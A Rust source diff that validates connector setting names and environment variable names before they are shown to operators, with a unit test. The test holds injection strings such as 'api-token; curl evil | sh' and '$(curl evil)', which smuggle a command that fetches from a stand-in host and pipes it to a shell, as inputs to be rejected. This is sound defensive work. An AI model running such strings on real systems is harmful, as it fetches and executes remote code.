@@ -15,7 +15,7 @@ use crate::output::{Format, Models};
 use crate::sandbox::Stats;
 use crate::sandbox::http::SandboxHttp;
 use crate::sandbox::limits::Limits;
-use crate::secrets::{Grants, TrustStore};
+use crate::secrets::{Grants, TrustStore, is_env_name};
 use crate::settings::{self, Config, HOST_SETTINGS, resolve};
 use crate::sync::{self, Network, Output, SyncOptions, connector_failure, sandbox_http};
 use crate::text::{MAX_MESSAGE_CHARS, printable};
@@ -327,6 +327,15 @@ fn printable_spec(spec: ConnectorSpec) -> Result<ConnectorSpec, Failure> {
             spec.settings.len()
         )));
     }
+    // Setting names go into the lines an operator is told to type (`-s`, `--secret`): plain
+    // words only. Suggested variables that are not variable names are dropped.
+    if let Some(bad) = spec.settings.iter().find(|s| !is_setting_name(&s.name)) {
+        return Err(Failure::Guest(format!(
+            "contract violation: `describe` declared a setting named {:?}; a name is 1 to 64 \
+             letters, digits, `-`, `_` or `.`",
+            printable(&bad.name, 80)
+        )));
+    }
     let p = |s: String| printable(&s, MAX_MESSAGE_CHARS);
     Ok(ConnectorSpec {
         name: p(spec.name),
@@ -341,7 +350,12 @@ fn printable_spec(spec: ConnectorSpec) -> Result<ConnectorSpec, Failure> {
                 name: p(s.name),
                 description: p(s.description),
                 default_value: s.default_value.map(p),
-                env_vars: s.env_vars.into_iter().take(16).map(p).collect(),
+                env_vars: s
+                    .env_vars
+                    .into_iter()
+                    .filter(|v| v.len() <= 128 && is_env_name(v))
+                    .take(16)
+                    .collect(),
                 value_type: p(s.value_type),
                 ..s
             })
@@ -349,7 +363,13 @@ fn printable_spec(spec: ConnectorSpec) -> Result<ConnectorSpec, Failure> {
     })
 }
 
-/// The config file's `[settings]`, overridden by `-s` values.
+fn is_setting_name(name: &str) -> bool {
+    (1..=64).contains(&name.len())
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
+}
+
 /// The config file (if any) with the command line's `-s` and `--secret` applied over it.
 fn config(path: Option<&Path>, set: &[String], secrets: &[String]) -> Result<Config, Failure> {
     let mut config = match path {
@@ -507,4 +527,41 @@ fn spec_table(spec: &ConnectorSpec, bold: bool) -> String {
         out.push_str(&format!("  {n:<28}{d}\n"));
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn spec(name: &str, env: &[&str]) -> ConnectorSpec {
+        ConnectorSpec {
+            name: "c\x1b[2J".into(),
+            version: "0".into(),
+            vendor: "V".into(),
+            description: String::new(),
+            base_url_setting: None,
+            settings: vec![SettingSpec {
+                name: name.into(),
+                description: "d".into(),
+                required: true,
+                default_value: None,
+                secret: true,
+                env_vars: env.iter().map(|e| e.to_string()).collect(),
+                value_type: "string".into(),
+            }],
+        }
+    }
+
+    #[test]
+    fn a_spec_cannot_put_shell_text_into_the_lines_an_operator_is_told_to_type() {
+        let err = printable_spec(spec("api-token; curl evil | sh", &[])).unwrap_err();
+        assert!(err.message().contains("contract violation"), "{err}");
+        let ok = printable_spec(spec(
+            "api-token",
+            &["GOOD_1", "$(curl evil)", "1BAD", "A B"],
+        ))
+        .unwrap();
+        assert_eq!(ok.settings[0].env_vars, ["GOOD_1"]);
+        assert_eq!(ok.name, "c\u{fffd}[2J");
+    }
 }
